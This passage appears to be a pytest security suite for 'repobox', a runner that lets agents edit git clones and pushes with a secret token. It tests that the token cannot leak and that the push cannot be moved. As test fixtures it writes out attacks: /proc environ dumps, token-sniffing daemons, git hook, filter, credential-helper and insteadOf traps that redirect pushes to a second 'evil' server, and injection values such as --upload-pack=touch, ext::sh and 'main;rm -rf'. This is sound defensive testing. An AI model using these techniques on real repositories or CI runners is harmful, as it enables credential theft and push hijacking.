"""Security (SPEC §5): the token cannot leak, hostile input cannot escape, a hostile
repository or agent cannot steal the token or move the push.

Every test uses a token unique to it (`fresh_token`), so a scan of every process and file on the
machine cannot be confused by other tests running in parallel."""

from __future__ import annotations

import base64
import contextlib
import json
import os
import shlex
import signal
import subprocess
import sys
import threading
import time
import uuid
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

import pytest
import redis

from tests.support.git_server import GitHttpsServer, RecordedRequest, clean_git_env
from tests.support.redis_server import RedisServer
from tests.support.security_helpers import (
    ProcessScanner,
    RecordingListener,
    fresh_token,
    leaks_in,
    processes_with_marker,
    scan_redis,
    scan_tree,
    sniffer_script,
    token_forms,
    wait_gone,
)
from tests.support.tls import TestCA
from tests.support.world import REPO_FILES, World, wait_for

BURST_DEADLINE_S = 90.0


# -- fixtures and helpers ------------------------------------------------------------------------
@pytest.fixture
def sworld(world: World) -> World:
    """The test world with a token no other test (or process on this machine) uses."""
    world.token = fresh_token()
    world.git.allow_token(world.token)
    return world


@pytest.fixture
def marker_tag(tmp_path: Path) -> Iterator[str]:
    """A tag put in the argv of every attacker process a test starts; they are killed at teardown."""
    tag = f"repobox-attacker-{os.getpid()}-{tmp_path.name}"
    yield tag
    for pid in processes_with_marker(tag.encode()):
        try:
            os.kill(pid, signal.SIGKILL)
        except ProcessLookupError:
            pass


@pytest.fixture
def evil_server(tmp_path: Path, sworld: World) -> Iterator[GitHttpsServer]:
    """A second HTTPS git server, holding a repo of the same name and accepting the same token:
    if anything sent the push or the credentials here, it would work and be recorded."""
    with GitHttpsServer(tmp_path / "evil-git", sworld.tls) as server:
        server.allow_token(sworld.token)
        server.create_repo(sworld.repo_name, REPO_FILES)
        yield server


def write_script(path: Path, body: str) -> Path:
    path.write_text("#!/bin/sh\n" + body)
    path.chmod(0o755)
    return path


def agent_command(script: Path) -> str:
    return f"/bin/sh {shlex.quote(str(script))}"


def work_branch(job_id: str) -> str:
    return f"repobox/{job_id[:8]}"


def assert_no_leak_in_results(world: World, result_text: str, forms: dict[str, bytes]) -> None:
    assert leaks_in(result_text, forms) == [], "token form in the runner's logs"
    assert scan_redis(world.redis_server.url, forms) == [], "token form in Redis"


def with_auth(requests: list[RecordedRequest]) -> list[RecordedRequest]:
    return [r for r in requests if r.authorization]


# -- 1. leak scanner during and after a job ----------------------------------------------------
AGENT_DUMP_SCRIPT = r"""
set -e
out="$1"
cat /proc/$$/environ > "$out/agent.environ"
(sleep 0.3; cat /proc/self/environ > "$out/child.environ") &
setsid sh -c 'sleep 0.2; cat /proc/self/environ > "$1/setsid-child.environ"; sleep 0.3' sh "$out" &
sleep 1
wait
git config --list --show-origin > "$out/agent-git-config.txt" 2>&1 || true
cat .git/config > "$out/agent-dot-git-config.txt"
ls -la .. > "$out/agent-parent-listing.txt"
echo x > f
echo "agent done"
"""


@pytest.mark.parametrize("cleanup", [True, False], ids=["cleanup", "no-cleanup"])
def test_token_in_no_form_anywhere_during_and_after_a_job(sworld: World, tmp_path: Path, cleanup: bool) -> None:
    world = sworld
    forms = token_forms(world.token)
    dumps = tmp_path / "dumps"
    dumps.mkdir()
    script = write_script(tmp_path / "agent.sh", AGENT_DUMP_SCRIPT)
    job_id = world.add_job(prompt="Write f; the token must stay secret")
    scanner = ProcessScanner(
        forms, [job_id], roots=[world.temp_dir, world.tmp / "home"], redis_url=world.redis_server.url
    )
    with scanner:
        # Unsandboxed: the agent dumps what it sees outside its clone (test_sandbox.py covers the sandbox).
        result = world.run_burst(
            AGENT_COMMAND=f"{agent_command(script)} {shlex.quote(str(dumps))}",
            CLEANUP_AFTER_JOB=str(cleanup).lower(),
            AGENT_SANDBOX="none",
        )
    assert result.returncode == 0, result.stderr[-2000:]
    job = world.job(job_id)
    assert job["status"] == "success", job
    assert "agent done" in world.output_text(job_id)
    assert work_branch(job_id) in world.git.branches(world.repo_name)

    # The scanner really watched the job: it saw the agent and git at work, many times.
    assert scanner.passes >= 5
    assert scanner.agent_pids_seen, "the scanner never saw the agent's processes"
    assert sorted(scanner.findings) == []

    # The agent's environment (and its children's, one in a new session): an allow-list.
    for name in ("agent.environ", "child.environ", "setsid-child.environ"):
        raw = (dumps / name).read_bytes()
        assert leaks_in(raw, forms) == [], name
        env_names = {item.split(b"=", 1)[0] for item in raw.split(b"\0") if item}
        assert b"ENCRYPTION_KEY" not in env_names and b"REDIS_URL" not in env_names, name
        assert world.key.encode() not in raw and world.redis_server.url.encode() not in raw, name
        assert b"REPOBOX_JOB_ID=" + job_id.encode() in raw.split(b"\0"), name
    # What the agent could see of its clone's git config holds no credentials either.
    assert scan_tree(dumps, forms) == []

    # After the job: every file in tmp_path (TEMP_DIR, HOME, the dumps), Redis, the logs.
    assert scan_tree(world.tmp, forms) == []
    assert_no_leak_in_results(world, result.stderr + result.stdout, forms)
    job_dir = world.temp_dir / job_id  # the layout below it (attempt directories) is the runner's own
    if cleanup:
        assert not job_dir.exists()
    else:
        configs = list(job_dir.rglob("repo/.git/config"))
        assert configs, "the kept work directory has no clone"
        workdir = configs[0].parents[2]
        assert (workdir / "git").is_dir()
        assert scan_tree(job_dir, forms) == []
        for private in (job_dir, workdir):
            assert oct(private.stat().st_mode & 0o777) == oct(0o700)


def test_scanner_finds_every_token_form(tmp_path: Path) -> None:
    """Positive control: the scanner does see the token in argv, an environment, a file, a name."""
    token = fresh_token()
    forms = token_forms(token)
    (tmp_path / "a").write_bytes(b"x" + forms["basic-auth-base64"] + b"y")
    (tmp_path / f"name-{forms['url-encoded'].decode()}").write_text("")
    marker = f"control-{tmp_path.name}"
    proc = subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(5)", marker, token], env={"X": forms["raw"].decode()}
    )
    try:
        wait_for(lambda: processes_with_marker(marker.encode()), timeout_s=10, what="control process")
        scanner = ProcessScanner(forms, [], roots=[tmp_path])
        scanner.scan_once()
    finally:
        proc.kill()
        proc.wait(timeout=10)
    found = "\n".join(sorted(scanner.findings))
    assert f"cmdline of pid {proc.pid}" in found and f"environ of pid {proc.pid}" in found
    assert "/a: basic-auth-base64" in found
    assert f"name-{forms['url-encoded'].decode()}: url-encoded" in found


# -- 2. a daemonized agent process watching for the runner's git --------------------------------
@dataclass
class PushClock:
    """When the real server first saw the push (receive-pack) — recorded as requests arrive."""

    first_push_at: float | None = None

    def install(self, server: GitHttpsServer, monkeypatch: pytest.MonkeyPatch) -> None:
        original = server._record

        def record(request: RecordedRequest) -> None:
            if "receive-pack" in request.path and self.first_push_at is None:
                self.first_push_at = time.time()
            original(request)

        monkeypatch.setattr(server, "_record", record)


@pytest.mark.parametrize(
    "launch",
    [
        "daemon",  # double fork + setsid: escapes the agent's session and process group
        "daemon-no-marker",  # same, with REPOBOX_JOB_ID removed from its environment
        "daemon-spoofed-marker",  # same, claiming to belong to another job
    ],
)
def test_daemonized_agent_process_is_gone_before_the_push_and_never_sees_the_token(
    sworld: World, tmp_path: Path, marker_tag: str, monkeypatch: pytest.MonkeyPatch, launch: str
) -> None:
    world = sworld
    forms = token_forms(world.token)
    sniffer = sniffer_script(tmp_path)
    loot, heartbeat = tmp_path / "loot.bin", tmp_path / "heartbeat.txt"
    env_prefix = {
        "daemon": "",
        "daemon-no-marker": "env -u REPOBOX_JOB_ID ",
        "daemon-spoofed-marker": "env REPOBOX_JOB_ID=some-other-job ",
    }[launch]
    args = " ".join(shlex.quote(str(a)) for a in (sniffer, loot, heartbeat, marker_tag, 30))
    command = (
        f"{env_prefix}python3 {args}; "
        f"i=0; while [ ! -s {shlex.quote(str(heartbeat))} ] && [ $i -lt 100 ]; do sleep 0.05; i=$((i+1)); done; "
        "sleep 0.3; echo changed > f; echo agent done"
    )
    clock = PushClock()
    clock.install(world.git, monkeypatch)
    job_id = world.add_job()
    # The reaper's job (AGENT_SANDBOX=none); the sandboxed case is in test_sandbox.py.
    result = world.run_burst(AGENT_COMMAND=command, AGENT_SANDBOX="none")
    assert result.returncode == 0, result.stderr[-2000:]
    job = world.job(job_id)
    output = world.output_text(job_id)
    assert job["status"] == "success", (job, output)
    assert work_branch(job_id) in world.git.branches(world.repo_name)

    beats = [float(x) for x in heartbeat.read_text().split()]
    assert len(beats) >= 2, "the daemon never ran"
    alive = wait_gone(marker_tag.encode(), timeout_s=0.5)
    loot_bytes = loot.read_bytes() if loot.exists() else b""
    assert leaks_in(loot_bytes, forms) == [], "the daemon read the token from a git process"
    assert alive == [], f"the agent's daemon outlived the job: pids {alive}"
    assert clock.first_push_at is not None
    assert beats[-1] < clock.first_push_at, "the daemon was still alive when the push started"
    assert_no_leak_in_results(world, result.stderr, forms)


def test_daemon_borrowing_a_concurrent_jobs_marker_is_gone_before_the_push(
    sworld: World, tmp_path: Path, marker_tag: str
) -> None:
    """Job A's agent leaves a daemon carrying the REPOBOX_JOB_ID of job B, whose agent is still
    running on the same runner (any same-user process can read it from /proc/<pid>/environ):
    the daemon must still be gone before A pushes."""
    world = sworld
    forms = token_forms(world.token)
    loot, heartbeat = tmp_path / "loot.bin", tmp_path / "heartbeat.txt"
    victim_started = tmp_path / "b-started"
    other_token = fresh_token()  # B's own token: whatever the daemon finds of A's token came from A's push
    world.git.allow_token(other_token)
    world.add_provider(world.user("userb"), token=other_token)
    victim = world.add_job(user=world.user("userb"), prompt="victim-b")
    attacker = world.add_job(user=world.user("usera"), prompt="attacker-a")
    args = " ".join(shlex.quote(str(a)) for a in (sniffer_script(tmp_path), loot, heartbeat, marker_tag, 30))
    script = write_script(
        tmp_path / "agent.sh",
        f"""
case "$REPOBOX_PROMPT" in
  victim-b) touch {shlex.quote(str(victim_started))}; sleep 6 ;;
  attacker-a)
    i=0; while [ ! -e {shlex.quote(str(victim_started))} ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i+1)); done
    env REPOBOX_JOB_ID={victim} python3 {args}
    sleep 0.3 ;;
esac
echo changed > f
""",
    )
    # The reaper's job (AGENT_SANDBOX=none): in the sandbox no other job's process is visible.
    result = world.run_burst(AGENT_COMMAND=agent_command(script), MAX_CONCURRENT_JOBS="4", AGENT_SANDBOX="none")
    assert result.returncode == 0, result.stderr[-2000:]
    assert world.job(victim)["status"] == "success" and world.job(attacker)["status"] == "success"
    loot_bytes = loot.read_bytes() if loot.exists() else b""
    assert heartbeat.exists(), "the daemon never ran"
    assert leaks_in(loot_bytes, forms) == [], "the daemon read the token from job A's push"


# -- 3. traps planted in the clone (and in the runner's own repository next to it) ---------------
# Each snippet runs in the agent with: R (the clone), T (a trap command that creates the marker
# file, then behaves like `cat`), EVIL (the same repository on a second server), EVIL_BASE,
# REAL_BASE (the real server's base URL), PROXY (a listener that records connections).
HOOKS = (
    "pre-commit",
    "commit-msg",
    "pre-push",
    "reference-transaction",
    "post-commit",
    "post-update",
    "pre-receive",
    "post-checkout",
    "push-to-checkout",
    "fsmonitor-watchman",
    "prepare-commit-msg",
)
PLANT_HOOKS = "for h in " + " ".join(HOOKS) + '; do cp "$T" "$1/$h"; chmod +x "$1/$h"; done'
ATTRIBUTES = 'printf "* filter=trap diff=trap merge=trap\\n" > "$R/.gitattributes"'
FILTER_CONFIG = (
    'git config filter.trap.clean "$T"; git config filter.trap.smudge "$T"; git config filter.trap.required true'
)

CLONE_TRAPS: dict[str, str] = {
    "hooks": f'set -- "$R/.git/hooks"; {PLANT_HOOKS}',
    "core.hooksPath": f'mkdir -p "$R/.evil-hooks"; set -- "$R/.evil-hooks"; {PLANT_HOOKS}; '
    'git config core.hooksPath "$R/.evil-hooks"',
    "core.fsmonitor": 'git config core.fsmonitor "$T"',
    "filter-clean-smudge": f"{ATTRIBUTES}; {FILTER_CONFIG}",
    "filter-process": f'{ATTRIBUTES}; git config filter.trap.process "$T"; git config filter.trap.required true',
    "diff-textconv": f'{ATTRIBUTES}; git config diff.trap.textconv "$T"; git config diff.trap.command "$T"',
    "diff.external": 'git config diff.external "$T"',
    "include.path": (
        'printf "[core]\\n\\tfsmonitor = %s\\n\\thooksPath = /nonexistent\\n[filter \\"trap\\"]\\n'
        '\\tclean = %s\\n[url \\"%s\\"]\\n\\tinsteadOf = %s\\n" "$T" "$T" "$EVIL_BASE" "$REAL_BASE" '
        f'> "$R/.git/evil.cfg"; {ATTRIBUTES}; git config include.path evil.cfg; '
        'git config "includeIf.gitdir:/.path" "$R/.git/evil.cfg"'
    ),
    "core.sshCommand": 'git config core.sshCommand "$T"; git config url."ssh://git@127.0.0.1/x".insteadOf "$REAL_BASE"',
    "credential.helper": (
        'git config credential.helper "!$T"; git config core.askPass "$T"; git config http.extraHeader "X-Planted: yes"'
    ),
    "url.insteadOf": 'git config url."$EVIL_BASE".insteadOf "$REAL_BASE"',
    "url.pushInsteadOf": 'git config url."$EVIL_BASE".pushInsteadOf "$REAL_BASE"',
    "remote.origin.pushurl": 'git config remote.origin.pushurl "$EVIL"',
    "remote.origin.url": 'git remote set-url origin "$EVIL"',
    "http.proxy": (
        'git config http.proxy "$PROXY"; git config "http.$REAL_BASE.proxy" "$PROXY"; '
        'git config remote.origin.proxy "$PROXY"; git config http.sslVerify false'
    ),
}

# The runner's own bare repository is a sibling of the clone: the agent can write there too.
RUNNER_REPO_TRAPS: dict[str, str] = {
    "runner-config": (
        f'{ATTRIBUTES}; G="$R/../git"; '
        'printf "[core]\\n\\tfsmonitor = %s\\n\\thooksPath = %s\\n[filter \\"trap\\"]\\n\\tclean = %s\\n'
        '[url \\"%s\\"]\\n\\tpushInsteadOf = %s\\n[http]\\n\\tproxy = %s\\n" "$T" "$G/hooks" "$T" '
        '"$EVIL_BASE" "$REAL_BASE" "$PROXY" >> "$G/config"'
    ),
    "runner-hooks": f'set -- "$R/../git/hooks"; mkdir -p "$1"; {PLANT_HOOKS}',
    "runner-info-attributes": (
        f'mkdir -p "$R/../git/info"; printf "* filter=trap\\n" > "$R/../git/info/attributes"; {FILTER_CONFIG}'
    ),
    # `commondir` makes git read its config (and refs) from another directory: here the clone's
    # .git, whose config the agent controls.
    "runner-commondir": (
        f'{ATTRIBUTES}; {FILTER_CONFIG}; git config core.fsmonitor "$T"; '
        'git config url."$EVIL_BASE".pushInsteadOf "$REAL_BASE"; '
        'echo "$R/.git" > "$R/../git/commondir"'
    ),
}


ALL_TRAPS = {**CLONE_TRAPS, **RUNNER_REPO_TRAPS}


@dataclass
class TrapCase:
    """One trap, with its own repository (on both servers), marker, proxy listener and script."""

    name: str
    repo_name: str
    marker: Path
    script: Path
    proxy: RecordingListener
    job_id: str = ""


def plant(
    dir: Path, *, repo_name: str, real: GitHttpsServer, evil: GitHttpsServer, proxy_port: int, snippet: str
) -> tuple[Path, Path]:
    """The agent script planting `snippet` (then changing two files); (script, marker)."""
    dir.mkdir(parents=True, exist_ok=True)
    marker = dir / "TRAP_FIRED"
    trap = write_script(dir / "trap.sh", f'touch {shlex.quote(str(marker))}\nexec cat "$@"\n')
    prelude = "\n".join(
        [
            "set -e",
            'R="$REPOBOX_REPO_DIR"; cd "$R"',
            f"T={shlex.quote(str(trap))}",
            f"EVIL={shlex.quote(evil.repo_url(repo_name))}",
            f"EVIL_BASE={shlex.quote(evil.base_url + '/')}",
            f"REAL_BASE={shlex.quote(real.base_url + '/')}",
            f"PROXY=http://127.0.0.1:{proxy_port}",
        ]
    )
    body = f"{prelude}\n{snippet}\necho changed >> README.md\necho new > added.txt\necho planted\n"
    return write_script(dir / "plant.sh", body), marker


@dataclass
class TrapRun:
    world: World
    evil: GitHttpsServer
    cases: dict[str, TrapCase]
    stderr: str
    returncode: int


@pytest.fixture(scope="module")
def trap_run(tmp_path_factory: pytest.TempPathFactory, git_server: GitHttpsServer, tls: TestCA) -> Iterator[TrapRun]:
    """Every trap of CLONE_TRAPS and RUNNER_REPO_TRAPS, one job each, all in one burst: each job's
    agent runs the script planting its own trap (picked by REPOBOX_JOB_ID)."""
    tmp = tmp_path_factory.mktemp("traps")
    redis_server = RedisServer(tmp / "redis")
    redis_server.start()
    world = World(tmp, redis_server, git_server, tls)
    world.token = fresh_token()
    git_server.allow_token(world.token)
    scripts = tmp / "scripts"
    with contextlib.ExitStack() as stack:
        evil = stack.enter_context(GitHttpsServer(tmp / "evil-git", tls))
        evil.allow_token(world.token)
        cases: dict[str, TrapCase] = {}
        for name, snippet in ALL_TRAPS.items():
            slug = name.replace(".", "-")
            repo_name = f"trap-{slug}-{uuid.uuid4().hex[:6]}"
            repo_url = git_server.create_repo(repo_name, REPO_FILES)
            evil.create_repo(repo_name, REPO_FILES)
            proxy = stack.enter_context(RecordingListener())
            script, marker = plant(
                tmp / "cases" / slug,
                repo_name=repo_name,
                real=git_server,
                evil=evil,
                proxy_port=proxy.port,
                snippet=snippet,
            )
            case = TrapCase(name, repo_name, marker, script, proxy)
            case.job_id = world.add_job(repo_url=repo_url, prompt="trap")
            scripts.mkdir(exist_ok=True)
            (scripts / case.job_id).symlink_to(script)
            cases[name] = case
        result = world.repobox_within(
            BURST_DEADLINE_S,
            "run",
            "--burst",
            AGENT_COMMAND=f'exec /bin/sh {shlex.quote(str(scripts))}/"$REPOBOX_JOB_ID"',
            CLEANUP_AFTER_JOB="false",
            MAX_CONCURRENT_JOBS="6",
            MAX_JOBS_PER_USER="100",
            # Unsandboxed, so the traps in the runner's repository can be planted.
            AGENT_SANDBOX="none",
        )
        yield TrapRun(world, evil, cases, result.stderr, result.returncode)
    world.close()
    redis_server.stop()


def check_trap(run: TrapRun, name: str) -> tuple[dict[str, str], str]:
    """What every trap must show; the job hash and output for the caller's own checks."""
    world, case = run.world, run.cases[name]
    assert run.returncode == 0, run.stderr[-2000:]
    job = world.job(case.job_id)
    output = world.output_text(case.job_id)
    assert "planted" in output, output  # the trap really was planted
    assert not case.marker.exists(), f"a planted command ran: {output}"
    assert case.proxy.received == [], "something connected to the planted proxy"
    mine = [r for r in run.evil.requests if case.repo_name in r.path]
    assert with_auth(mine) == [], "the second server received credentials"
    assert mine == [], f"something contacted the second server: {[(r.method, r.path) for r in mine]}"
    assert work_branch(case.job_id) not in run.evil.branches(case.repo_name)
    forms = token_forms(world.token)
    assert scan_tree(world.temp_dir / case.job_id, forms) == []
    assert leaks_in(output + json.dumps(job), forms) == []
    assert leaks_in(run.stderr, forms) == []
    return job, output


@pytest.mark.parametrize("name", list(CLONE_TRAPS))
def test_trap_planted_in_the_clone_never_runs_and_never_moves_the_push(trap_run: TrapRun, name: str) -> None:
    job, output = check_trap(trap_run, name)
    case = trap_run.cases[name]
    assert job["status"] == "success", (job, output)
    branch = work_branch(case.job_id)
    assert job["branch"] == branch
    assert trap_run.world.git.show_file(case.repo_name, branch, "added.txt") == "new\n"
    assert trap_run.world.git.log(case.repo_name, branch)[0][1] == "repobox: trap"


@pytest.mark.parametrize("name", list(RUNNER_REPO_TRAPS))
def test_trap_planted_in_the_runner_repository_never_runs_and_never_moves_the_push(
    trap_run: TrapRun, name: str
) -> None:
    job, output = check_trap(trap_run, name)
    case = trap_run.cases[name]
    if job["status"] == "success":
        assert trap_run.world.git.show_file(case.repo_name, work_branch(case.job_id), "added.txt") == "new\n"
    else:
        assert job["status"] == "failed" and job.get("error_message"), job


def test_nothing_in_redis_holds_the_token_after_all_the_traps(trap_run: TrapRun) -> None:
    assert trap_run.returncode == 0, trap_run.stderr[-2000:]
    assert scan_redis(trap_run.world.redis_server.url, token_forms(trap_run.world.token)) == []


def _naive_git_user(case_dir: Path, name: str, snippet: str, world: World, evil: GitHttpsServer) -> str | None:
    """Plant the trap in an ordinary clone, then commit and push the ordinary way: the name when
    the trap did not fire."""
    repo_name = f"live-{case_dir.name}-{uuid.uuid4().hex[:6]}"
    repo_url = world.git.create_repo(repo_name, REPO_FILES)
    evil.create_repo(repo_name, REPO_FILES)
    header = "Authorization: Basic " + base64.b64encode(f"oauth2:{world.token}".encode()).decode()
    env = clean_git_env(
        {
            "GIT_SSL_CAINFO": str(world.tls.ca_file),
            "HOME": str(case_dir),
            "GIT_CONFIG_COUNT": "1",
            "GIT_CONFIG_KEY_0": "http.extraHeader",
            "GIT_CONFIG_VALUE_0": header,
        }
    )
    no_auth = {k: v for k, v in env.items() if not k.startswith("GIT_CONFIG_")}
    repo = case_dir / "repo"
    with RecordingListener() as proxy:
        subprocess.run(
            ["git", "clone", "-q", repo_url, str(repo)], env=env, check=True, capture_output=True, timeout=30
        )
        script, marker = plant(
            case_dir / "plant", repo_name=repo_name, real=world.git, evil=evil, proxy_port=proxy.port, snippet=snippet
        )
        subprocess.run(
            ["/bin/sh", str(script)],
            env={**env, "REPOBOX_REPO_DIR": str(repo)},
            cwd=repo,
            check=True,
            capture_output=True,
            timeout=30,
        )
        for args, step_env in [
            (["add", "-A"], env),
            (["commit", "-q", "-m", "x"], env),
            (["diff", "HEAD~1"], env),
            (["push", "origin", "HEAD:refs/heads/naive"], no_auth),
            (["push", "origin", "HEAD:refs/heads/naive"], env),
        ]:
            subprocess.run(
                ["git", *args], env=step_env, cwd=repo, capture_output=True, timeout=30, stdin=subprocess.DEVNULL
            )
        to_evil = [r for r in evil.requests if repo_name in r.path and r.authorization]
        fired = marker.exists() or bool(to_evil) or bool(proxy.received)
    return None if fired else name


def test_the_clone_traps_are_live_against_a_naive_git_user(
    sworld: World, tmp_path: Path, evil_server: GitHttpsServer
) -> None:
    """Control for the trap tests: each trap does fire (marker, credentials at the second server,
    or a proxy connection) when someone commits and pushes in the clone the ordinary way."""
    with ThreadPoolExecutor(4) as pool:
        dead = pool.map(
            lambda item: _naive_git_user(tmp_path / item[0].replace(".", "-"), item[0], item[1], sworld, evil_server),
            CLONE_TRAPS.items(),
        )
        assert [name for name in dead if name] == []


@pytest.mark.parametrize("when", ["from-the-start", "at-push"])
def test_redirect_to_a_second_server_is_not_followed_and_gets_no_credentials(
    sworld: World, tmp_path: Path, evil_server: GitHttpsServer, when: str
) -> None:
    """The job's server (a legitimate provider host) answers 302 to a second server, either from
    the first request or only once the agent ran (so only the push is redirected)."""
    world = sworld
    with GitHttpsServer(tmp_path / "redirector", world.tls) as redirector:
        redirector.allow_token(world.token)
        repo_url = redirector.create_repo(world.repo_name, REPO_FILES)
        world.add_provider(world.user("ruser"), url=redirector.base_url)
        if when == "from-the-start":
            redirector.redirect_to = evil_server.base_url
        started = tmp_path / "agent-started"
        command = f"touch {shlex.quote(str(started))}; sleep 1; echo changed > f"
        job_id = world.add_job(user=world.user("ruser"), repo_url=repo_url)

        def switch_on_redirect() -> None:
            if when == "at-push":
                wait_for(started.exists, timeout_s=60, what="the agent to start")
                redirector.redirect_to = evil_server.base_url

        switcher = threading.Thread(target=switch_on_redirect, daemon=True)
        switcher.start()
        # Unsandboxed: the agent signals its start with a file outside its clone.
        result = world.run_burst(AGENT_COMMAND=command, AGENT_SANDBOX="none")
        switcher.join(timeout=60)
        redirected = [r for r in redirector.requests if "receive-pack" in r.path or when == "from-the-start"]
    assert result.returncode == 0, result.stderr[-2000:]
    job = world.job(job_id)
    assert job["status"] == "failed", (job, world.output_text(job_id))
    assert "redirect" in job["error_message"], job["error_message"]
    assert redirected, "the redirector never saw the request it was to redirect"
    assert evil_server.requests == [], "git followed the redirect"
    assert work_branch(job_id) not in evil_server.branches(world.repo_name)
    forms = token_forms(world.token)
    assert_no_leak_in_results(world, result.stderr, forms)
    assert scan_tree(world.tmp, forms) == []


COMMONDIR_THEFT = r"""
set -e
R="$REPOBOX_REPO_DIR"; cd "$R"
# A clean filter the runner's own `git add` will run (via commondir -> the clone's config): it
# starts a daemon that waits for the push and reads the git processes' environments.
cat > "$R/.git/steal.sh" <<EOS
#!/bin/sh
SNIFFER_DAEMONIZE=1 python3 $SNIFFER $LOOT $HEARTBEAT $TAG 30 </dev/null >/dev/null 2>&1
exec cat
EOS
chmod +x "$R/.git/steal.sh"
git config filter.steal.clean "$R/.git/steal.sh"
printf "added.txt filter=steal\n" > .gitattributes
echo "$R/.git" > "$R/../git/commondir"
echo new > added.txt
echo planted
"""


def test_runner_repository_commondir_cannot_start_a_process_that_steals_the_token_at_push(
    sworld: World, tmp_path: Path, marker_tag: str
) -> None:
    """The agent cannot reach the token itself; can it make the runner's own git steps (after the
    agent's leftovers were killed) start something that waits for the push?"""
    world = sworld
    forms = token_forms(world.token)
    loot, heartbeat = tmp_path / "loot.bin", tmp_path / "heartbeat.txt"
    body = COMMONDIR_THEFT
    for name, value in {
        "SNIFFER": sniffer_script(tmp_path),
        "LOOT": loot,
        "HEARTBEAT": heartbeat,
        "TAG": marker_tag,
    }.items():
        body = body.replace(f"${name}", shlex.quote(str(value)))
    script = write_script(tmp_path / "agent.sh", body)
    job_id = world.add_job()
    # Unsandboxed, so the commondir trap in the runner's repository can be planted.
    result = world.run_burst(AGENT_COMMAND=agent_command(script), AGENT_SANDBOX="none")
    assert result.returncode == 0, result.stderr[-2000:]
    job = world.job(job_id)
    output = world.output_text(job_id)
    assert "planted" in output
    alive = wait_gone(marker_tag.encode(), timeout_s=0.5)
    loot_bytes = loot.read_bytes() if loot.exists() else b""
    assert leaks_in(loot_bytes, forms) == [], f"a process started by a planted filter read the token ({job['status']})"
    assert alive == [], "a process started through the runner's own git steps outlived the job"
    assert not heartbeat.exists(), "a planted filter ran in the runner's git steps"
    if job["status"] == "success":
        assert world.git.show_file(world.repo_name, work_branch(job_id), "added.txt") == "new\n"
    else:
        assert job.get("error_message"), job


# -- 4. a corpus of hostile stream entries and job hashes ---------------------------------------
@dataclass(frozen=True)
class Case:
    """One hostile input: job-hash fields (add_job kwargs) or a raw stream entry, and the end
    expected: 'failed' (with `reason` in error_message), 'refused' (acked, nothing run), 'final'
    (success or failed: a legal but odd value), or 'success'."""

    name: str
    job: dict[str, object] | None = None
    entry: dict[str, str] | None = None
    expect: str = "failed"
    reason: str = ""


def hostile_corpus(world: World, tmp_path: Path, other_port: int) -> list[Case]:
    def pwn(name: str) -> str:
        return str(tmp_path / f"pwned-{name}")

    host = f"127.0.0.1:{world.git.port}"
    name = world.repo_name
    victim = tmp_path / "victim"
    url_cases = {
        "upload-pack-option": (f"--upload-pack=touch {pwn('upload-pack')}", "whitespace"),
        "upload-pack-option-no-space": (f"--upload-pack=touch%20{pwn('upload-pack2')}", "starts with '-'"),
        "ext-transport": (f"ext::sh -c touch% {pwn('ext')}", "whitespace"),
        "ext-transport-no-space": (f"ext::touch%20{pwn('ext2')}", "scheme"),
        "ssh-proxycommand": (f"ssh://-oProxyCommand=touch {pwn('ssh')}/", "whitespace"),
        "ssh-proxycommand-no-space": (f"ssh://-oProxyCommand=touch%20{pwn('ssh2')}/x.git", "scheme"),
        "ssh-url": (f"ssh://git@{host}/{name}.git", "scheme"),
        "scp-like": (f"git@127.0.0.1:{name}.git", "scheme"),
        "file-etc": ("file:///etc", "scheme"),
        "file-real-repo": (f"file://{world.git.repo_path(name)}", "scheme"),
        "local-path": (str(world.git.repo_path(name)), "scheme"),
        "userinfo": (f"https://user:pass@{host}/{name}.git", "credentials"),
        "userinfo-no-password": (f"https://oauth2@{host}/{name}.git", "credentials"),
        "http-without-opt-in": (f"http://{host}/{name}.git", "scheme"),
        "other-port-than-provider": (f"https://127.0.0.1:{other_port}/{name}.git", "not the git provider's host"),
        "other-host-name-than-provider": (
            f"https://localhost:{world.git.port}/{name}.git",
            "not the git provider's host",
        ),
        "newline-then-option": (f"{world.repo_url}\n--upload-pack=touch {pwn('newline')}", "whitespace"),
        "query-string": (f"{world.repo_url}?x=--upload-pack=touch%20{pwn('query')}", "query"),
        "dot-dot-path": (f"https://{host}/../../{name}.git", "path"),
        "no-path": (f"https://{host}", "path"),
        "homoglyph-host": ("https://g\u0456thub.com/x.git", "host"),
        "empty": ("", "empty"),
    }
    cases = [Case(f"url:{k}", job={"repo_url": url}, reason=reason) for k, (url, reason) in url_cases.items()]
    bad_branches = {
        "semicolon-rm": f"main;rm -rf {victim}",
        "dot-dot": "../x",
        "leading-dash": "-x",
        "a..b": "a..b",
        "option": "--upload-pack=touch",
        "lock": "x.lock",
        "at-brace": "@{-1}",
        "tilde": "HEAD~1",
        "control": "main\x01",
        "newline": "main\nx",
        "absolute": "/abs",
        "trailing-dot": "x.",
    }
    cases += [Case(f"branch:{k}", job={"branch": b}, reason="branch") for k, b in bad_branches.items()]
    cases += [
        # legal ref names with shell syntax: no shell ever sees them (the base falls back to main)
        Case("branch:legal-shell-syntax", job={"branch": f"main;touch$IFS{pwn('branch-shell')}"}, expect="final"),
        Case("branch:legal-command-substitution", job={"branch": "$(touch${IFS}pwned)"}, expect="final"),
        # User and provider ids are only ever key parts: path syntax in them is harmless and legal.
        Case("id:user-path-syntax-is-only-a-key-part", job={"user": "github:../../x/y"}, expect="success"),
        Case("id:provider-dash-is-only-a-key-part", job={"provider": "-rf"}, expect="success"),
        Case("id:user-newline", job={"user": "github:1\nEVIL", "provider_record": False}, reason="user_id"),
        Case("id:user-nul", job={"user": "github:1\x002", "provider_record": False}, reason="user_id"),
        Case("id:user-10KiB", job={"user": "github:" + "1" * 10240, "provider_record": False}, reason="user_id"),
        Case("id:provider-space", job={"provider": "a b", "provider_record": False}, reason="provider_id"),
        Case("id:job-dot-dot", job={"job_id": "../x"}, expect="refused"),
        Case("id:job-dash-rf", job={"job_id": "-rf"}, expect="refused"),
        Case("id:job-slash", job={"job_id": "a/../../x"}, expect="refused"),
        Case("id:job-dot", job={"job_id": "."}, expect="refused"),
        Case("id:job-dotdot", job={"job_id": ".."}, expect="refused"),
        Case("id:job-newline", job={"job_id": "x\ny"}, expect="refused"),
        Case("id:job-too-long", job={"job_id": "a" * 300}, expect="refused"),
        Case("prompt:1MB", job={"prompt": "A" * (1024 * 1024)}, reason="too large"),
        Case("prompt:NUL", job={"prompt": "before\x00after"}, reason="NUL"),
        Case(
            "prompt:control-and-shell",
            expect="success",
